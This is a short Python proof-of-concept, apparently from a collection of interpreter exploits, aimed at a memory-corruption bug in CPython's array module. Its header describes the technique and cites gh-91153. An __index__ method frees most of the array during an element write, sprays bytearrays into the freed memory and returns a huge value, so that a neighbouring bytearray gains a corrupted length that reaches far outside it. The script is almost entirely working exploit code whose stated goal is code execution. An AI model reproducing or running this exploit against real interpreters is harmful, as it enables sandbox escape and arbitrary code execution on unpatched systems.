# technique: __index__ of the value shrinks the array that is being written: a write behind its end, into a neighbour
# goal: code
# source: own analysis of arraymodule.c, after CPython gh-91153
# mended: later releases
import array


class Evil:
    def __index__(self):
        del target[1:]
        for n in range(64):
            keep[n] = bytearray()
        return 1 << 61


fill = [bytearray() for _ in range(5000)]
keep = [None] * 64
target = array.array('q', [0] * 64)
target[10] = Evil()
for found in keep:
    if len(found) > 1 << 60:
        print('ESCAPED a bytearray of', len(found), 'bytes', flush=True)
